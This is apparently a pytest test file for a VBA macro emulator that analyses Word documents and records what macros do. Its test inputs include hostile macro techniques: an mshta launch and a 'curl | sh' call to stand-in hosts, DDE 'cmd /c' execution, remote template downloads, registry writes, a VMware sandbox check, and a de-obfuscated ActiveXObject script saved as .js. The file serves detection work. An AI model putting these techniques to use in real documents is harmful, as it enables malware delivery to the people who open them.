"""Word: the application, documents and what they hold beside running text."""

import pytest
from evaluate.vba.host.hosted import body, error, hosted, is_unknown, value

from emoscan.parse.bundle import Control, Document, FormField, Module, Paragraph, Run, Shape

DOCUMENT = Document(
    host="word",
    paragraphs=(
        Paragraph("Hello brave world. It is nice!"),
        Paragraph("second", style="Heading 1"),
        Paragraph("ab", (Run("a", color=0xFF0000, bold=True, size=1.0), Run("b", hidden=True))),
    ),
    variables={"key": "a variable"},
    properties={"Comments": "in the comments", "Number of Pages": 3, "Author": "someone"},
    custom_properties={"Own": "custom one", "Num": 7},
    stories={"header": "the header", "footnotes": "note one"},
    tables=((("a1", "b1"), ("a2", "b2")),),
    shapes=(Shape("Text Box 2", "shape text", "alt text", "shape title", "textbox"), Shape("Pic", alt_text="inline alt", inline=True)),
    bookmarks={"mark": "brave", "elsewhere": "not in the text"},
    comments=(("tanaka", "a comment"),),
    fields=(("AUTHOR", "someone"),),
    form_fields=(
        FormField("Drop1", "dropdown", "two", entries=("one", "two")),
        FormField("Text1", "text", "typed", default="a default", help="some help", status="a status"),
    ),
    content_controls=(("title one", "tag one", "cc text"),),
    custom_xml=('<root xmlns="urn:x"><item n="1">first</item><item>second</item></root>',),
)


@pytest.mark.parametrize(
    ("expression", "expected"),
    [
        ('ActiveDocument.Variables("KEY")', "a variable"),
        ('ActiveDocument.Variables("key").Value', "a variable"),
        ("ThisDocument.Variables(1).Name", "key"),
        ("ActiveDocument.Variables.Count", 1),
        ('ActiveDocument.BuiltInDocumentProperties("Comments")', "in the comments"),
        ("ActiveDocument.BuiltInDocumentProperties(wdPropertyComments).Value", "in the comments"),
        ('ActiveDocument.BuiltInDocumentProperties("Title").Value', ""),
        ('ActiveDocument.CustomDocumentProperties("own").Value', "custom one"),
        ('ActiveDocument.CustomDocumentProperties.Item("Num") + 1', 8),
        ("ActiveDocument.Sections(1).Headers(wdHeaderFooterPrimary).Range.Text", "the header\r"),
        ("ActiveDocument.Sections(1).Footers(1).Exists", False),
        ("ActiveDocument.StoryRanges(wdFootnotesStory).Text", "note one\r"),
        ("ActiveDocument.StoryRanges.Item(222 / 222).Paragraphs(2).Range", "second\r"),
        ("ActiveDocument.Tables(1).Cell(2, 1).Range.Text", "a2\r\x07"),
        ("ActiveDocument.Tables(1).Rows(2).Cells(2).Range", "b2\r\x07"),
        ("ActiveDocument.Tables(1).Columns(2).Cells.Count", 2),
        ("ActiveDocument.Tables(1).Range.Text", "a1\r\x07b1\r\x07a2\r\x07b2\r\x07"),
        ("ActiveDocument.Shapes(1).TextFrame.TextRange", "shape text"),
        ("ActiveDocument.Shapes(1).TextFrame.TextRange.Text", "shape text"),
        ("ActiveDocument.Shapes(1).TextFrame2.TextRange.Text", "shape text"),
        ("ActiveDocument.Shapes(1).TextFrame.HasText", -1),
        ('ActiveDocument.Shapes("Text Box 2").AlternativeText', "alt text"),
        ("ActiveDocument.Shapes(1).Title & ActiveDocument.Shapes(1).Name", "shape titleText Box 2"),
        ("ActiveDocument.Shapes(1).Type", 17),
        ("ActiveDocument.InlineShapes(1).AlternativeText", "inline alt"),
        ('ActiveDocument.Bookmarks("mark").Range.Text', "brave"),
        ('ActiveDocument.Bookmarks("mark").Start', 6),
        ('ActiveDocument.Bookmarks("elsewhere").Range', "not in the text"),
        ('ActiveDocument.Bookmarks.Exists("nope")', False),
        ("ActiveDocument.Comments(1).Range.Text & ActiveDocument.Comments(1).Author", "a commenttanaka"),
        ("ActiveDocument.Fields(1).Code.Text & ActiveDocument.Fields(1).Result", "AUTHORsomeone"),
        ("ActiveDocument.ContentControls(1).Range.Text", "cc text"),
        ('ActiveDocument.SelectContentControlsByTag("tag one")(1).Title', "title one"),
        ("ActiveDocument.CustomXMLParts.Count", 4),
        ('Split(Split(ActiveDocument.Paragraphs(2).Range.WordOpenXML, "<w:t>")(1), "<")(0)', "second"),
        ('InStr(ActiveDocument.WordOpenXML, "Hello brave world. It is nice!</w:t>") > 0', True),
        ("ActiveDocument.CustomXMLParts(4).DocumentElement.FirstChild.Text", "first"),
        ('ActiveDocument.CustomXMLParts.SelectByNamespace("urn:x")(1).SelectSingleNode("/ns0:root[1]/ns0:item[2]").Text', "second"),
        ('ActiveDocument.CustomXMLParts(4).SelectNodes("//item").Count', 2),
        ('ActiveDocument.CustomXMLParts(4).SelectSingleNode("//@n").Text', "1"),
        ('ActiveDocument.CustomXMLParts(4).SelectSingleNode("/*/*[1]/@n").NodeValue', "1"),
        ("ActiveDocument.CustomXMLParts(4).SelectSingleNode(\"//*[local-name()='item'][2]\").Text", "second"),
        ("ActiveDocument.CustomXMLParts(4).SelectSingleNode(\"//ns0:item[@n='1']\").Text", "first"),
        ('ActiveDocument.FormFields("drop1").DropDown.ListEntries(1).Name', "one"),
        ('ActiveDocument.FormFields("Drop1").Result & ActiveDocument.FormFields(1).DropDown.Value', "two2"),
        ('ActiveDocument.FormFields("Text1").StatusText & ActiveDocument.FormFields("Text1").HelpText', "a statussome help"),
        ('ActiveDocument.FormFields("Text1").TextInput.Default & ActiveDocument.FormFields(2).Result', "a defaulttyped"),
        ("ActiveDocument.CustomXMLParts(4).DocumentElement.ChildNodes(1).Attributes(1).NodeValue", "1"),
        ("ActiveDocument.Revisions.Count + ActiveDocument.Endnotes.Count", 0),
        ("ActiveDocument.Paragraphs(2).Style", "Heading 1"),
        ("ActiveDocument.Name", "Invoice 20.doc"),
        ("ActiveDocument.FullName", r"C:\Users\tanaka\Downloads\Invoice 20.doc"),
        ("ThisDocument.Path", r"C:\Users\tanaka\Downloads"),
        ("ActiveDocument", "Invoice 20.doc"),
        ("ActiveDocument.AttachedTemplate.Path", r"C:\Users\tanaka\AppData\Roaming\Microsoft\Templates"),
        ("ActiveDocument.AttachedTemplate", "Normal.dotm"),
        ("ActiveDocument.Application.Name", "Microsoft Word"),
        ("Application", "Microsoft Word"),
        ("Application.Version & Application.Build", "16.016.0.14326"),
        ("ThisDocument.Parent.Name", "Microsoft Word"),
        ("Word.ActiveDocument.Application.ActiveDocument.Name", "Invoice 20.doc"),
        ("ActiveDocument Is ThisDocument", True),
        ("Documents.Count & Documents(1).Name", "1Invoice 20.doc"),
        ("RecentFiles.Count", 27),
        ("Tasks.Count", 61),
        ('Tasks.Exists("Microsoft Word")', True),
        ('Tasks.Exists("vmware")', False),
        ("System.Country", 81),
        ("Application.International(wdDecimalSeparator)", "."),
        ("Options.DefaultFilePath(wdTempFilePath)", r"C:\Users\tanaka\AppData\Local\Temp"),
        ("NormalTemplate.FullName", r"C:\Users\tanaka\AppData\Roaming\Microsoft\Templates\Normal.dotm"),
        ("Application.UserName & Application.OperatingSystem", "田中Windows (64-bit) NT 10.00"),
        ("MacroContainer.Name", "Invoice 20.doc"),
        ("wdKeyP & wdFormatText & WdSaveFormat.wdFormatHTML", "8028"),
        ('CleanString("a" & Chr(7) & "b")', "a b"),
        ("InchesToPoints(1)", 72),
        ("ActiveWindow.Caption", "Invoice 20.doc"),
        ("Application.Windows.Count", 1),
        ("TypeName(ActiveDocument.Paragraphs)", "Paragraphs"),
    ],
)
def test_what_a_document_holds(expression, expected):
    assert value(expression, DOCUMENT, (Module("ThisDocument", "", "document"),)) == expected


def test_form_fields_that_only_their_bookmarks_tell_of():
    assert value('ActiveDocument.FormFields("mark").Result', Document(host="word", bookmarks={"mark": "brave"})) == "brave"


@pytest.mark.parametrize(
    ("expression", "number"),
    [
        ('ActiveDocument.Variables("nope").Value', 5825),
        ('ActiveDocument.CustomDocumentProperties("nope")', 5),
        ("ActiveDocument.Tables(2)", 5941),
        ("ActiveDocument.Tables(1).Cell(3, 1)", 5941),
        ("ActiveDocument.Paragraphs(0)", 5941),
        ("ActiveDocument.StoryRanges(wdEndnotesStory)", 5941),
        ('ActiveDocument.Shapes("nope")', -2147024809),
        ("ActiveDocument.Range(5, 2)", 4608),
        ('Documents("other.doc")', 4160),
    ],
)
def test_errors(expression, number):
    assert error(expression, DOCUMENT) == number


@pytest.mark.parametrize("expression", ["ActiveDocument.NoSuchMember", "SynonymInfo(1)", "KeyBindings(1)"])
def test_what_nobody_modelled_is_unknown_and_listed(expression):
    result = hosted(f"Function Main()\nMain = {expression}\nEnd Function", DOCUMENT)
    assert is_unknown(result.value) or result.error is not None
    assert result.error is not None or any(kind == "eval.unmodelled" for kind, _ in result.facts)


def test_a_global_name_is_never_empty():
    for name in ("HangulHanjaDictionaries", "AnswerWizard", "SynonymInfo"):
        assert body(f"x = TypeName({name})\nMain = x") not in ("Empty", "Nothing")


def test_a_name_like_a_constant_of_a_newer_library_is_unknown_and_junk_is_empty():
    assert is_unknown(value("wdFormatStrictText"))
    assert value("IsEmpty(wdQzkJe)") is True
    assert body("wdFormatMine = 3\nMain = wdFormatMine") == 3


def test_variables_are_made_by_assigning():
    lines = (
        'ActiveDocument.Variables("new") = "v"\nActiveDocument.Variables("key") = "changed"\nActiveDocument.Variables.Add "third", "t"\n'
    )
    lines += 'For Each x In ActiveDocument.Variables\nMain = Main & x.Name & "=" & x & ";"\nNext'
    assert body(lines, DOCUMENT) == "key=changed;new=v;third=t;"


def test_properties_can_be_set_and_added():
    lines = 'ActiveDocument.BuiltInDocumentProperties("Title") = "t"\nActiveDocument.CustomDocumentProperties.Add Name:="n", Value:=5, LinkToContent:=False, Type:=1\n'
    assert body(lines + 'Main = ActiveDocument.BuiltInDocumentProperties("Title") & ActiveDocument.CustomDocumentProperties("n")') == "t5"


def test_inherited_members_in_the_document_module():
    own = Module("ThisDocument", "Function Own()\nOwn = Paragraphs.Count & Name & Range(0, 5).Text & Me.Words(1)\nEnd Function", "document")
    assert value("ThisDocument.Own()", DOCUMENT, (own,)) == "3Invoice 20.docHelloHello "


@pytest.mark.parametrize(
    ("format_", "content"),
    [
        ("2", b"one\r\ntwo\r\n"),
        ("wdFormatUnicodeText", b"\xff\xfe" + "one\r\ntwo\r\n".encode("utf-16-le")),
        ("wdFormatDOSText", b"one\r\ntwo\r\n"),
    ],
)
def test_saving_as_text_writes_the_text(format_, content):
    document = Document(host="word", paragraphs=(Paragraph("one"), Paragraph("two")))
    result = hosted(f'Sub Main()\nActiveDocument.SaveAs2 FileName:="C:\\Users\\Public\\x.hta", FileFormat:={format_}\nEnd Sub', document)
    assert result.effects("write") == [r"C:\Users\Public\x.hta"]
    assert content in [data for _, data in result.children]


def test_a_saved_document_goes_by_its_new_name():
    assert body('ActiveDocument.SaveAs "C:\\x\\y.txt", 2\nMain = ActiveDocument.FullName') == r"C:\x\y.txt"


def test_replacing_in_the_document_and_saving_it_as_a_script():
    document = Document(host="word", paragraphs=(Paragraph("set a=new##Active##XObject"), Paragraph("a.Ru##n")))
    lines = """
    With ActiveDocument.Content.Find
        .Text = "##"
        .Replacement.Text = ""
        .Execute Replace:=wdReplaceAll
    End With
    ActiveDocument.SaveAs FileName:="C:\\Users\\Public\\a.js", FileFormat:=wdFormatText
    """
    result = hosted(f"Sub Main()\n{lines}\nEnd Sub", document)
    assert [data for _, data in result.children] == [b"set a=newActiveXObject\r\na.Run\r\n"]


def test_further_documents():
    lines = 'Set d = Documents.Add\nd.Content.Text = "x"\nMain = Documents.Count & ActiveDocument.Content & ThisDocument.Name\nd.Close\nMain = Main & ActiveDocument.Name'
    assert body(lines) == "2x\rInvoice 20.docInvoice 20.doc"


def test_opening_what_the_script_wrote_and_what_lies_on_the_network():
    lines = 'Open "C:\\x\\a.txt" For Output As #1\nPrint #1, "line"\nClose #1\nDocuments.Open "C:\\x\\a.txt"\nMain = ActiveDocument.Paragraphs(1).Range'
    assert body(lines) == "line\r"
    result = hosted('Function Main()\nMain = Documents.Open("https://files.example.test/a.dotm").Content.Text\nEnd Function')
    assert is_unknown(result.value)
    assert result.effects("download") == ["https://files.example.test/a.dotm"]


@pytest.mark.parametrize(
    ("statement", "kind", "expected"),
    [
        ('ActiveDocument.FollowHyperlink "https://a.example.test/"', "open", "https://a.example.test/"),
        ('ActiveDocument.AttachedTemplate = "https://a.example.test/t.dotm"', "download", "https://a.example.test/t.dotm"),
        ('Selection.InlineShapes.AddPicture "https://a.example.test/p.png"', "download", "https://a.example.test/p.png"),
        (
            'ActiveDocument.Fields.Add Selection.Range, -1, "INCLUDEPICTURE ""https://a.example.test/q""", False',
            "download",
            "https://a.example.test/q",
        ),
        (
            'System.PrivateProfileString("", "HKEY_CURRENT_USER\\Software\\A", "Level") = 1',
            "registry",
            "HKEY_CURRENT_USER\\Software\\A\\Level",
        ),
        ('Application.SendKeys "{ENTER}"', "keys", "{ENTER}"),
        ('Application.SendKeys "mshta a.example.test~"', "run", "mshta a.example.test"),
        ('ActiveDocument.FollowHyperlink "https://a.example.test/a/x.exe?b"', "download", "https://a.example.test/a/x.exe?b"),
        ('MacScript "do shell script ""curl \\""a\\"" | sh"" with x"', "run", 'curl "a" | sh'),
        ('AppleScriptTask "a.scpt", "h", "p"', "run", "a.scpt h p"),
        ('AddIns.Add "C:\\x\\a.dotm", True', "load", r"C:\x\a.dotm"),
        ('Application.ShellExecute "calc.exe", "/x"', "run", "calc.exe /x"),
        ('Application.OrganizerCopy ActiveDocument.FullName, "C:\\t.dotm", "M", 3', "write", r"C:\t.dotm"),
        ('WordBasic.Shell "calc.exe"', "run", "calc.exe"),
    ],
)
def test_effects_of_the_object_model(statement, kind, expected):
    assert hosted(f"Sub Main()\n{statement}\nEnd Sub").effects(kind) == [expected]


def test_dde_commands():
    result = hosted('Sub Main()\nc = DDEInitiate("cmd", "/c calc")\nDDEExecute c, "[x]"\nd = DDEInitiate("excel", "system")\nEnd Sub')
    assert result.effects("run") == ["cmd /c calc"]
    assert result.effects("keys") == ["[x]"]


def test_the_running_application_and_further_ones():
    assert value('GetObject(, "Word.Application").ActiveDocument.Name') == "Invoice 20.doc"
    assert value("GetObject(ActiveDocument.FullName).Name") == "Invoice 20.doc"
    assert value('CreateObject("Word.Application").Documents.Count') == 0
    assert error('CreateObject("Word.Application").ActiveDocument') == 4248
    assert (
        body('Set x = CreateObject("Excel.Application")\nx.Workbooks.Add.Sheets(1).Range("A1") = 5\nMain = x.Cells(1, 1) & x.Name')
        == "5Microsoft Excel"
    )


def test_a_password_a_document_is_opened_with_is_a_clue():
    result = hosted('Sub Main()\nDocuments.Open FileName:="C:\\x\\a.doc", PasswordDocument:="secret"\nEnd Sub')
    assert ("clue.password", "secret") in result.facts
    assert result.effects("open") == [r"C:\x\a.doc"]


def test_macros_by_name_now_and_later():
    source = 'Public Trace\nFunction Twice(a)\nTwice = a & a\nEnd Function\nSub Later()\nShell Trace & "calc"\nEnd Sub\n'
    assert hosted(source + 'Function Main()\nMain = Application.Run("Module1.Twice", "x")\nEnd Function').value == "xx"
    main = 'Sub Main()\nApplication.OnTime Now + TimeValue("00:00:05"), "Later"\nTrace = "set after "\nEnd Sub'
    assert hosted(source + main).effects("run") == ["set after calc"]
    assert error('Application.Run("nope")') == 1004


def test_a_macro_that_schedules_itself_for_ever_ends():
    result = hosted('Public n\nSub Main()\nn = n + 1\nApplication.OnTime Now, "Main"\nEnd Sub')
    assert result.error is None
    assert result.project.namespace  # it came to an end


def test_quitting_ends_the_macro():
    result = hosted('Sub Main()\nApplication.Quit\nShell "calc"\nEnd Sub')
    assert result.effects("run") == []


@pytest.mark.parametrize(
    ("expression", "query"),
    [
        ("RecentFiles.Count", "RecentFiles.Count"),
        ('Tasks.Exists("vmware")', "Tasks.Exists(vmware)"),
        ("Application.UserName", "Application.UserName"),
        ("Application.International(26)", "Application.International(26)"),
        ("ActiveDocument.Name", "Document.Name"),
        ("ThisDocument.Path", "Document.Path"),
        ("Application.MouseAvailable", "Application.MouseAvailable"),
        ("Windows.Count", "Windows.Count"),
        ("System.OperatingSystem", "System.OperatingSystem"),
        ("Application.LanguageSettings.LanguageID(1)", "LanguageSettings.LanguageID"),
    ],
)
def test_questions_about_the_surroundings_are_recorded(expression, query):
    assert ("effect.query", query) in hosted(f"Sub Main()\nx = {expression}\nEnd Sub").facts


def test_unread_parts_are_unknown_not_empty():
    document = Document(host="word", unread=("paragraphs", "shapes", "variables", "properties", "custom_properties", "tables", "bookmarks"))
    for expression in (
        "ActiveDocument.Content.Text",
        "ActiveDocument.Paragraphs(1).Range.Text",
        "ActiveDocument.Shapes(1).TextFrame.TextRange.Text",
        'ActiveDocument.Variables("x").Value',
        'ActiveDocument.BuiltInDocumentProperties("Title").Value',
        'ActiveDocument.CustomDocumentProperties("x").Value',
        "ActiveDocument.Tables(1).Cell(1, 1).Range.Text",
        'ActiveDocument.Bookmarks("x").Range.Text',
    ):
        assert is_unknown(value(expression, document)), expression


def test_macros_without_a_document_run_in_the_application_they_name():
    assert is_unknown(value("ActiveDocument.Content.Text", Document()))
    assert is_unknown(value('Sheets("a").Range("A1").Value', Document()))
    assert value("Application.Name", Document(), (Module("M", "Sub Workbook_Open()\nEnd Sub"),)) == "Microsoft Excel"


def test_control_frames_among_the_shapes():
    document = Document(
        host="word",
        controls=(Control("T", "TextBox", {"Text": "v", "Value": "v"}, module="ThisDocument"),),
        shapes=(Shape("Control 1", inline=True, control="T"),),
    )
    assert value("ActiveDocument.InlineShapes(1).OLEFormat.Object.Text & ActiveDocument.InlineShapes.Count", document) == "v1"
    assert value("ActiveDocument.InlineShapes(1).Type = wdInlineShapeOLEControlObject", document) is True
    assert value('ActiveDocument.Shapes("Control 1").OLEFormat.Object.Text & ActiveDocument.Shapes.Count', document) == "v0"


def test_links_of_the_text():
    document = Document(host="word", fields=(("DATE", "x"), ('HYPERLINK "https://a.example.test/" \\l "there" \\o "a tip"', "shown")))
    link = "With ActiveDocument.Hyperlinks(1): Main = .Address & .SubAddress & .ScreenTip & .TextToDisplay & ActiveDocument.Hyperlinks.Count: End With"
    assert body(link, document) == "https://a.example.test/therea tipshown1"


NOTES = Document(host="word", paragraphs=(Paragraph("One\x02 and two\x02"),), stories={"footnotes": "\x02 first\r\x02second \r"})


@pytest.mark.parametrize(
    ("expression", "expected"),
    [
        ("ActiveDocument.Footnotes.Count", 2),
        ("ActiveDocument.Footnotes(1).Range.Text", " first"),
        ("ActiveDocument.Footnotes(2).Range", "second "),
        ("ActiveDocument.Content.Footnotes(2).Index", 2),
        ("ActiveDocument.Footnotes(2).Reference.Start", 12),
        ("ActiveDocument.Endnotes.Count", 0),
        ('ActiveDocument.Endnotes.Add(ActiveDocument.Content, , "new").Range.Text', "new"),
    ],
)
def test_notes(expression, expected):
    assert value(expression, NOTES) == expected


def test_a_note_that_is_selected():
    assert body("ActiveDocument.Footnotes(1).Range.Select\nMain = Selection.Text", NOTES) == " first"
